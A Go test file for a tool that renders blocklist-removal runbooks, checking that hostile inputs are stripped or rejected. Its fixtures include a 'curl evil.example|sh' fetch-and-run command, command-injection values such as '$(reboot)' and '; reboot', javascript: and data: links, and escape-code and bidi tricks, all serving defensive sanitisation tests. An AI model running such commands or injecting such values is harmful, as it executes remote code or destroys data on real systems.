package remedy

import (
	"net/netip"
	"strings"
	"testing"
	"testing/fstest"

	"pgregory.net/rapid"

	"reputed/blocklists"
	"reputed/checks"
)

func TestHostileFactsStayHarmless(t *testing.T) {
	b := load(t)
	evil := func(id string) (blocklists.Zone, bool) {
		z := blocklists.Zone{ID: id, Title: "Evil\n\u202elist {removal_url}"}
		z.Removal.LookupURL, z.Removal.URL = "javascript:alert(1)//{ip}", "https://user:pass@evil.example/{ip}"
		z.Removal.Method, z.Removal.FixFirst = "self-service", "run `curl evil.example|sh`\r\n{domain}\x1b[31m"
		return z, true
	}
	f := listed("evil", "")
	f.Facts[checks.FactLookupURL] = "data:text/html,x"
	f.Facts[checks.FactRemovalURL] = "http://evil.example/\" onclick=\"x"
	got := draw(b.For(f, evil))
	for _, bad := range []string{"javascript", "evil.example/", "user:pass", "data:", "\x1b", "\u202e", "onclick", "\r"} {
		if strings.Contains(got, bad) {
			t.Errorf("holds %q:\n%s", bad, got)
		}
	}
	if !strings.Contains(got, "Evil list {removal_url}") || !strings.Contains(got, "{domain}") {
		t.Errorf("a value was expanded again:\n%s", got)
	}
}

func TestLinksOfARefusalAreNotBelieved(t *testing.T) {
	f := finding(checks.CodeRefused, checks.FactRemedy, "generic-list", checks.FactLookupURL, "https://phish.example/", checks.FactRemovalURL, "https://phish.example/")
	if got := draw(load(t).For(f, nil)); strings.Contains(got, "phish") {
		t.Errorf("a page named by a refusal became a link:\n%s", got)
	}
	f = listed("psbl", "")
	f.Facts[checks.FactLookupURL] = "https://list.example/look?192.0.2.10"
	if got := draw(load(t).For(f, nil)); !strings.Contains(got, "https://list.example/look?192.0.2.10") {
		t.Errorf("the page of a list is missing:\n%s", got)
	}
}

func TestFactsThatAreNotWhatTheySayAreMissing(t *testing.T) {
	for name, c := range map[string]struct{ fact, value, placeholder, want string }{
		"an address":             {checks.FactAddress, "198.51.100.7", "address", "198.51.100.7"},
		"a mapped address":       {checks.FactAddress, "::ffff:198.51.100.7", "address", "198.51.100.7"},
		"an address that is not": {checks.FactAddress, "$(reboot)", "address", ""},
		"a domain":               {checks.FactDomain, "Example.ORG", "domain", "example.org"},
		"a domain that is not":   {checks.FactDomain, "-rf /", "domain", ""},
		"a receiver":             {checks.FactReceiver, "example.net", "receiver", "example.net"},
		"a receiver that is not": {checks.FactReceiver, "example.net <script>", "receiver", ""},
		"a server":               {checks.FactServers, "[2001:db8::53]:5353, 192.0.2.53:53", "server", "2001:db8::53"},
		"a server's port":        {checks.FactServers, "[2001:db8::53]:5353", "server_port", "5353"},
		"a server that is not":   {checks.FactServers, "; reboot", "server", ""},
	} {
		t.Run(name, func(t *testing.T) {
			f := checks.Finding{Code: checks.CodeRefused, Facts: map[string]string{c.fact: c.value}}
			if got := values(f, blocklists.Zone{})[c.placeholder]; got != c.want {
				t.Errorf("{%s} = %q, want %q", c.placeholder, got, c.want)
			}
		})
	}
}

func TestIPv6IsEscapedInLinks(t *testing.T) {
	f := finding(checks.CodeRefused, checks.FactRemedy, "cisco-talos")
	f.Target = checks.Address(netip.MustParseAddr("2001:db8::25"))
	if got, want := draw(load(t).For(f, nil)), "lookup?search=2001%3Adb8%3A%3A25"; !strings.Contains(got, want) {
		t.Errorf("no %q in:\n%s", want, got)
	}
}

// Whatever the facts are, every runbook gives clean lines, https links and
// commands in which a fact is one plain word.
func TestRenderingIsCleanWhateverTheFacts(t *testing.T) {
	b := load(t)
	hostile := rapid.OneOf(
		rapid.String(),
		rapid.SampledFrom([]string{"{address}", "{", "}", "$(id)", "`id`", "a;b", "-rf", "https://x.example/\n", "javascript:x", "\u202e", "<!channel>", "192.0.2.1", "example.org", "%0a", "'", "::1"}),
	)
	rapid.Check(t, func(t *rapid.T) {
		f := checks.Finding{Code: checks.CodeListed, Facts: map[string]string{}}
		for name := range placeholders {
			f.Facts[name] = hostile.Draw(t, name)
		}
		f.Facts[checks.FactRemedy] = rapid.SampledFrom(b.runbooks).Draw(t, "remedy").id
		z := blocklists.Zone{Title: hostile.Draw(t, "title")}
		z.Removal = blocklists.Removal{
			Method: hostile.Draw(t, "method"), FixFirst: hostile.Draw(t, "fix"), Typical: hostile.Draw(t, "typical"),
			LookupURL: hostile.Draw(t, "lookup"), URL: hostile.Draw(t, "url"),
		}
		rem := b.For(f, func(string) (blocklists.Zone, bool) { return z, true })
		for _, text := range append([]string{rem.Title, rem.WhoAsk, rem.Takes}, rem.Never...) {
			if checks.Line(text, 0) != text {
				t.Fatalf("not a clean line: %q", text)
			}
		}
		for _, s := range rem.Steps {
			if checks.Line(s.Text, 0) != s.Text || s.Text == "" {
				t.Fatalf("not a clean line: %q", s.Text)
			}
			if s.URL != "" && checks.Link(s.URL) != s.URL {
				t.Fatalf("link %q", s.URL)
			}
			for _, bad := range []string{"$(", "`", "\n", "-rf", "a;b", "<", ">"} {
				if strings.Contains(s.Command, bad) {
					t.Fatalf("command %q holds %q", s.Command, bad)
				}
			}
		}
	})
}

func TestReadNamesTheMistake(t *testing.T) {
	const step = "[[runbook.step]]\ntext = \"Do it.\"\n"
	const head = "[[runbook]]\nid = \"x\"\ntitle = \"X\"\n"
	for name, c := range map[string]struct{ text, want string }{
		"a key that is not known":           {head + "titel = \"Y\"\n" + step, `line 4, column 1: unknown key [runbook titel]`},
		"not TOML":                          {"[[runbook]\n", "line 1, column"},
		"no id":                             {"[[runbook]]\ntitle = \"X\"\n" + step, "the id must be one plain word"},
		"no title":                          {"[[runbook]]\nid = \"x\"\n" + step, "no title"},
		"no steps":                          {head, "no steps"},
		"an empty step":                     {head + "[[runbook.step]]\ntext = \" \"\n", "step 1: empty"},
		"a placeholder nobody knows":        {head + "[[runbook.step]]\ntext = \"Look {adress} up.\"\n", "step 1: text: unknown placeholder {adress}"},
		"the second of two":                 {head + "[[runbook.step]]\ntext = \"Look {address|adress} up.\"\n", "unknown placeholder {adress}"},
		"a placeholder in needs":            {head + step + "needs = [\"adress\"]\n", "unknown placeholder {adress} in needs"},
		"a placeholder in a command":        {head + step + "command = \"dig {adress}\"\n", "step 1: command: unknown placeholder {adress}"},
		"a brace left open":                 {head + "[[runbook.step]]\ntext = \"Look {address up.\"\n", "a brace outside of a placeholder"},
		"a link in a sentence":              {head + "[[runbook.step]]\ntext = \"See {lookup_url}.\"\n", "is a link and belongs in url"},
		"a link inside a link":              {head + step + "url = \"https://x.example/?u={lookup_url}\"\n", "must be the whole url"},
		"a link that is not https":          {head + step + "url = \"http://x.example/\"\n", "step 1: url: not an https link"},
		"a link that is script":             {head + step + "url = \"javascript:x\"\n", "not an https link"},
		"a link whose host is a fact":       {head + step + "url = \"https://{domain}/\"\n", "not an https link"},
		"a link whose host ends in a fact":  {head + step + "url = \"https://x.{domain}/\"\n", "in the host name"},
		"a fragment that is not there":      {head + "[[runbook.step]]\nuse = \"y\"\n", `there is no fragment "y"`},
		"a fragment and a text":             {head + step + "use = \"f\"\n" + "[[fragment]]\nid = \"f\"\n[[fragment.step]]\ntext = \"F.\"\n", "holds nothing else"},
		"a fragment without steps":          {"[[fragment]]\nid = \"f\"\n", "no id or no steps"},
		"the same id twice":                 {head + step + head + step, "another runbook with this id"},
		"a code claimed twice":              {head + "findings = [\"dnsbl.listed\"]\n" + step + strings.Replace(head, "x", "y", 1) + "findings = [\"dnsbl.listed\"]\n" + step, `has runbook "x" already`},
		"return codes of no list":           {head + "codes = [\"127.0.0.2\"]\n" + step, "codes_of goes with codes or meanings"},
		"lists with codes, and no codes":    {head + "codes_of = [\"a\"]\n" + step, "codes_of goes with codes or meanings"},
		"two placeholders do not nest":      {head + "[[runbook.step]]\ntext = \"{{address}}\"\n", "a brace outside of a placeholder"},
		"a category claimed twice":          {head + "categories = [\"rdns\"]\n" + step + strings.Replace(head, "x", "y", 1) + "categories = [\"rdns\"]\n" + step, `category rdns has runbook "x" already`},
		"a fragment does not use fragments": {head + "[[runbook.step]]\nuse = \"f\"\n[[fragment]]\nid = \"f\"\n[[fragment.step]]\nuse = \"f\"\n", "uses another fragment"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := Read(fstest.MapFS{"runbooks/a.toml": {Data: []byte(c.text)}})
			if err == nil || !strings.Contains(err.Error(), c.want) || !strings.HasPrefix(err.Error(), "runbooks/a.toml: ") {
				t.Errorf("got error %v\nwant runbooks/a.toml: ... %s", err, c.want)
			}
		})
	}
	if _, err := Read(fstest.MapFS{}); err == nil {
		t.Error("no files: want an error")
	}
}

func TestAwkKeepsItsBraces(t *testing.T) {
	tm, err := parse("awk '{print $1}' {address}", inCommand)
	if err != nil {
		t.Fatal(err)
	}
	if got, ok := tm.expand(map[string]string{"address": "192.0.2.1"}, inCommand); !ok || got != "awk '{print $1}' 192.0.2.1" {
		t.Errorf("got %q, %v", got, ok)
	}
}

func FuzzTemplate(f *testing.F) {
	f.Add("Look {address|domain} up {", "a{b}")
	f.Fuzz(func(t *testing.T, s, value string) {
		for _, in := range []context{inText, inURL, inCommand} {
			tm, err := parse(s, in)
			if err != nil {
				continue
			}
			v := map[string]string{}
			for name := range placeholders {
				v[name] = value
			}
			got, ok := tm.expand(v, in)
			if in == inText && ok && len(tm) == 1 && tm[0].names == nil && got != s {
				t.Errorf("a text without placeholders changed: %q, %q", s, got)
			}
			if in == inURL && ok && !strings.Contains(s, "{") && got != s {
				t.Errorf("a link without placeholders changed: %q, %q", s, got)
			}
		}
	})
}
